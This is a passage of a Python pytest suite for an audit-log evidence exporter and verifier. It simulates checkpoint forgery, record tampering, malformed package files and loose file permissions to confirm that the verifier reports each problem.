        export_log(root, tmp_path / "a", selection=Selection(start=_at("11:00"), end=_at("09:00")))
    # Nor one no checkpoint covers yet: its end cut back to the checkpoint's time would
    # come before its start.
    with pytest.raises(ExportError, match="no signed checkpoint covers any of it yet"):
        export_log(root, tmp_path / "b", selection=Selection(start=_at("23:00"), end=_at("23:30")))


async def _two_logs_one_key(tmp_path: Path) -> tuple[str, str]:
    """Two logs (replicas) signed with one key file; their verifier keys."""
    key = tmp_path / "signing-key.pem"
    generate_signing_key(key)
    vkeys = []
    for name, count in (("a", 6), ("b", 3)):
        config = AuditConfig(
            dir=str(tmp_path / name), signing_key_file=str(key), checkpoint_interval_s=3600
        )
        log = await AuditLog.open(config)
        await fill(log, count)
        await log.close()
        vkeys.append(log.verifier_key)
    return vkeys[0], vkeys[1]


def _relabelled(note: str, vkey: str) -> str:
    """``note`` with its signature line claiming the signer ``vkey`` names (same key)."""
    name, _, rest = vkey.partition("+")
    key_hash = bytes.fromhex(rest.partition("+")[0])
    text, _, lines = note.rpartition("\n\n")
    out = []
    for line in lines.strip("\n").split("\n"):
        _, blob = line[2:].split(" ")
        signature = base64.b64decode(blob)[4:]
        out.append(f"\u2014 {name} " + base64.b64encode(key_hash + signature).decode())
    return text + "\n\n" + "\n".join(out) + "\n"


def test_one_key_two_logs_one_logs_checkpoints_do_not_pass_for_the_other(
    tmp_path: Path,
) -> None:
    """Replicas given one key file sign under their own log's name; a checkpoint of log
    B relabelled with A's name verifies as a signature, but is not A's checkpoint."""
    vkey_a, vkey_b = asyncio.run(_two_logs_one_key(tmp_path))
    assert vkey_a.partition("+")[2].partition("+")[2] == vkey_b.partition("+")[2].partition("+")[2]
    package = tmp_path / "evidence-b"
    export_log(tmp_path / "b", package)
    note = (package / "checkpoint").read_text()
    (package / "checkpoint").write_text(_relabelled(note, vkey_a))
    (package / "log-key.vkey").write_text(vkey_a + "\n")
    remanifest(package)
    failures, _ = verify_package(package, vkey_a)
    assert any(f"not {vkey_a.partition('+')[0]}" in f for f in failures), failures
    script = subprocess.run(
        [sys.executable, str(package / "verify_evidence.py"), str(package), "--key", vkey_a],
        capture_output=True,
        text=True,
        check=False,
    )
    assert script.returncode != 0
    # B's own directory, relabelled, under A's key: damage, not "intact".
    b = tmp_path / "b"
    for path in [*(b / "checkpoints").iterdir(), b / "checkpoint"]:
        path.write_text(_relabelled(path.read_text(), vkey_a))
    report = verify_log(b, verifier=NoteVerifier.from_vkey(vkey_a))
    assert not report.ok
    assert any("not " + vkey_a.partition("+")[0] in d.detail for d in report.damage)


def test_a_period_edge_in_other_digits_fails(root: Path, tmp_path: Path) -> None:
    """A fullwidth digit sorts after 9: read as a time it would move the period's edge."""
    out = tmp_path / "evidence"
    export_log(root, out, selection=Selection(start=parse_time("2026-01-01")))
    failures = _rescoped_failures(out, **{"from": "2026-01-0\uff11T00:00:00.000000Z"})
    assert any("from" in f for f in failures), failures


# -- what the auditor's verifier proves, and what it cannot --------------------------------


def _sh(script: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["sh", "-c", script], cwd=cwd, env=env, capture_output=True, text=True, check=False
    )


def test_the_hand_steps_check_the_checkpoint_with_the_operators_key(
    root: Path, tmp_path: Path
) -> None:
    """A forger ships their own log-key.pem and checkpoint.sig: the by-hand steps take the
    PEM from the key the operator gave, never from the package."""
    if not shutil.which("openssl"):
        pytest.skip("openssl is not installed")
    out = tmp_path / "evidence"
    export_log(root, out)
    instructions = (out / "VERIFY.md").read_text()
    assert export_module.PEM_FROM_KEY in instructions
    assert export_module.BODY_IS_CHECKPOINT in instructions
    assert "-inkey log-key.pem" not in instructions
    vkey = (root / "keys" / "checkpoint.vkey").read_text().strip()
    verify = "openssl pkeyutl -verify -pubin -inkey operator-key.pem -rawin "
    verify += "-in checkpoint.body -sigfile checkpoint.sig"
    steps = f"{export_module.PEM_FROM_KEY} && {verify} && {export_module.BODY_IS_CHECKPOINT}"
    path = {"PATH": "/usr/bin:/bin"}
    assert _sh(steps, out, KEY=vkey, **path).returncode == 0
    assert (out / "operator-key.pem").read_bytes() == (out / "log-key.pem").read_bytes()
    (out / "operator-key.pem").unlink()
    # The forger's key signs the same body; log-key.vkey stays the genuine one.
    origin = NoteVerifier.from_vkey(vkey).name
    forger = NoteSigner(origin, Ed25519PrivateKey.generate())
    note = forger.sign((out / "checkpoint.body").read_text())
    signature = base64.b64decode(note.rstrip("\n").rpartition(" ")[2])[4:]
    (out / "checkpoint.sig").write_bytes(signature)
    (out / "log-key.pem").write_bytes(forger.verifier.public_pem)
    old_step = "openssl pkeyutl -verify -pubin -inkey log-key.pem -rawin "
    old_step += "-in checkpoint.body -sigfile checkpoint.sig"
    assert _sh(old_step, out, **path).returncode == 0  # what VERIFY.md used to say: fooled
    assert _sh(steps, out, KEY=vkey, **path).returncode != 0
    remanifest(out)
    failures, _ = verify_package(out, vkey)
    assert "checkpoint.sig is not the signature of " + origin + " in checkpoint" in failures
    assert f"log-key.pem is not the key checked against ({origin})" in failures
    # checkpoint.body must be the text of checkpoint, byte for byte.
    body = out / "checkpoint.body"
    body.write_text(body.read_text().replace("\n25\n", "\n26\n"))
    assert _sh(export_module.BODY_IS_CHECKPOINT, out, **path).returncode != 0


def _activation(revision: str, previous: str | None) -> dict[str, object]:
    return {
        "role": "champion",
        "revision": revision,
        "previous_revision": previous,
        "manifest_sha256": "a" * 64,
        "signed_by": "release-key-2026",
        "source": "/etc/warden/bundles",
        "name": "main",
    }


async def _change_log(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """0 activation rev-1 (08:00), 1 decision, 2 config_load (09:00), 3 decision (deny),
    4 activation rev-2 (10:00), 5 decision of rev-2 (10:30); closed at 12:00."""
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    hours = ("08:00", "08:30", "09:00", "09:30", "10:00", "10:30")
    monkeypatch.setattr(log, "_clock", _Stamps([_at(h) for h in hours]))
    await log.append("policy_activation", _activation("rev-1", None))
    await log.record_decision(sample_action(0), sample_decision())
    await log.append("config_load", {"config_sha256": "b" * 64, "source": "w.yaml"})
    await log.record_decision(sample_action(1), sample_decision(Effect.DENY))
    await log.append("policy_activation", _activation("rev-2", "rev-1"))
    rev2 = dataclasses.replace(sample_decision(), bundle_revision="rev-2")
    await log.record_decision(sample_action(2), rev2)
    monkeypatch.setattr(log, "_clock", _Stamps([_at("12:00")] * 4))
    await log.close()


def _edit_lines(path: Path, edit: Callable[[list[dict[str, object]]], None]) -> None:
    lines = [orjson.loads(line) for line in path.read_bytes().splitlines()]
    edit(lines)
    path.write_bytes(b"".join(orjson.dumps(line) + b"\n" for line in lines))


def _set(index: int, key: str, value: object) -> Callable[[list[dict[str, object]]], None]:
    def edit(lines: list[dict[str, object]]) -> None:
        lines[index][key] = value

    return edit


def _body_signed_by(lines: list[dict[str, object]]) -> None:
    body = lines[0]["body"]
    assert isinstance(body, dict)
    body["signed_by"] = "attacker-key"


@pytest.mark.parametrize(
    ("file", "edit", "why"),
    [
        ("changelog.jsonl", _body_signed_by, "line 1: it does not say what record 0"),
        # Another change record's bytes and proof under record 0's number.
        ("changelog.jsonl", "swap", "line 1: record 0 is not proven in the signed tree"),
        # Dropped before the package's records: the decision's activation gives it away.
        ("changelog.jsonl", lambda lines: lines.pop(0), "activation_id of decision record 3"),
        ("changelog.jsonl", lambda lines: lines.pop(2), "leaves out record 4"),
        ("changelog.jsonl", _set(0, "in_period", True), "in_period is wrong for record 0"),
        ("activations.jsonl", _set(1, "activation_id", "x"), "activation_id of decision record 5"),
        ("activations.jsonl", _set(0, "bundle_revision", "rev-9"), "bundle_revision of decision"),
        ("activations.jsonl", lambda lines: lines.pop(1), "does not list each decision"),
    ],
)
async def test_the_change_log_and_activations_are_checked_against_the_proven_records(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    file: str,
    edit: Callable[[list[dict[str, object]]], None] | str,
    why: str,
) -> None:
    root = tmp_path / "audit"
    await _change_log(root, monkeypatch)
    out = tmp_path / "evidence"
    assert export_log(root, out, selection=Selection(_at("09:15"), _at("11:00"))).records == 3
    changes = [orjson.loads(line) for line in (out / "changelog.jsonl").read_bytes().splitlines()]
    assert [(c["seq"], c["in_period"], "proof" in c) for c in changes] == [
        (0, False, True),  # outside the package: it carries its record and proof
        (2, False, True),
        (4, True, False),  # record 4 is in records.jsonl
    ]
    failures, notes = verify_package(out)
    assert failures == []
    assert any("not proven: " in n and "no change record before record 3" in n for n in notes)
    if edit == "swap":
        changes[0]["record"], changes[0]["proof"] = changes[1]["record"], changes[1]["proof"]
        (out / file).write_bytes(b"".join(orjson.dumps(c) + b"\n" for c in changes))
    else:
        assert callable(edit)
        _edit_lines(out / file, edit)
    remanifest(out)
    failures, _ = verify_package(out)
    assert any(why in f for f in failures), failures


async def test_summary_is_said_to_be_unproven_and_the_proven_counts_are_printed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "audit"
    await _change_log(root, monkeypatch)
    out = tmp_path / "evidence"
    export_log(root, out)
    summary = out / "SUMMARY.md"
    assert "| deny | 1 |" in summary.read_text()
    summary.write_text(summary.read_text().replace("| deny | 1 |", "| deny | 0 |"))
    remanifest(out)
    failures, notes = verify_package(out)
    assert failures == []  # nothing in the signed log vouches for SUMMARY.md either way
    assert any("decisions by effect: allow 2, deny 1" in n for n in notes), notes
    proven = next(n for n in notes if n.startswith("proven against the signed checkpoint"))
    assert "changelog.jsonl" in proven
    assert "activations.jsonl (3 decisions)" in proven
    unproven = next(n for n in notes if n.startswith("not proven: "))
    for name in ("SUMMARY.md", "VERIFY.md", "verify_evidence.py", "MANIFEST.sha256"):
        assert name in unproven
    assert "leaves out no change record" not in unproven  # the package starts at record 0
    assert notes[-1].startswith("OK: ")


def test_the_verifier_lists_the_same_change_kinds_as_warden() -> None:
    assert verify_evidence.CHANGE_KINDS == CHANGE_KINDS


def _deep(out: Path) -> None:
    (out / "selection.json").write_text("[" * 100_000 + "]" * 100_000)


def _first_line(name: str, line: bytes) -> Callable[[Path], None]:
    def edit(out: Path) -> None:
        lines = (out / name).read_bytes().split(b"\n")
        lines[0] = line
        (out / name).write_bytes(b"\n".join(lines))

    return edit


def _edge_not_an_object(out: Path) -> None:
    edges = orjson.loads((out / "edges.json").read_bytes())
    edges[0]["record"] = base64.b64encode(b"[1]").decode()
    (out / "edges.json").write_bytes(orjson.dumps(edges))


def _proof_not_a_list(out: Path) -> None:
    lines = (out / "proofs.jsonl").read_bytes().split(b"\n")
    lines[0] = orjson.dumps({**orjson.loads(lines[0]), "proof": 7})
    (out / "proofs.jsonl").write_bytes(b"\n".join(lines))


@pytest.mark.parametrize(
    ("damage", "why"),
    [
        (_first_line("records.jsonl", b"[1]"), "records.jsonl line 1: not a JSON object"),
        (_first_line("records.jsonl", b'"x"'), "records.jsonl line 1: not a JSON object"),
        (_first_line("proofs.jsonl", b"null"), "proofs.jsonl line 1: not a JSON object"),
        (_first_line("changelog.jsonl", b"5"), "changelog.jsonl line 1: not a JSON object"),
        (_first_line("activations.jsonl", b"[]"), "activations.jsonl line 1: not a JSON"),
        (_proof_not_a_list, "proofs.jsonl line 1: the proof is not a list"),
        (_edge_not_an_object, "edges.json: record 16 is not a record numbered 16"),
        (_deep, "selection.json: nested too deeply"),
    ],
)
def test_a_malformed_package_fails_with_a_message_not_a_traceback(
    root: Path, tmp_path: Path, damage: Callable[[Path], None], why: str
) -> None:
    out = tmp_path / "evidence"
    export_log(root, out, selection=Selection(end=_edge_time(root)))
    assert verify_package(out)[0] == []
    damage(out)
    remanifest(out)
    failures, _ = verify_package(out)
    assert any(why in f for f in failures), failures
    if damage is _deep:  # the standalone script, as an auditor runs it
        vkey = (root / "keys" / "checkpoint.vkey").read_text().strip()
        script = Path(verify_evidence.__file__)
        done = subprocess.run(
            [sys.executable, "-I", str(script), str(out), "--key", vkey],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 1, done.stdout + done.stderr
        assert "Traceback" not in done.stderr
        assert why in done.stdout


def _edge_time(root: Path) -> str:
    """The time of record 16: a period ending there has an edge after it."""
    return str(next(orjson.loads(p)["time"] for seq, p in iter_records(root) if seq == 16))


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The usual 022, under which a plain ``open`` makes a file anyone may read."""
    before = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(before)


@pytest.mark.usefixtures("open_umask")
def test_an_export_is_its_makers_alone(root: Path, tmp_path: Path) -> None:
    """An export holds what the log holds (the log is 0640, its index 0600)."""
    out = tmp_path / "made" / "evidence"
    export_log(root, out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = list(out.iterdir())
    assert len(files) > 10
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}
    for fmt in ("csv", "ocsf"):
        export_log(root, tmp_path / f"audit.{fmt}", fmt=fmt)
        assert stat.S_IMODE((tmp_path / f"audit.{fmt}").stat().st_mode) == 0o600
